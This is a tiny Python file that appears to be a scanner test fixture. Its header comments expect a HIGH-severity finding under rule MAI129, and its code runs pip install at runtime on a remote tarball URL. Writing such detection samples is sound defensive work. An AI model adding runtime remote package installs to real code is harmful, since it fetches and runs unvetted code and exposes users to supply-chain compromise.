# expect: HIGH
# rules: MAI129
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "https://files.example.invalid/pkg-1.0.tar.gz"])
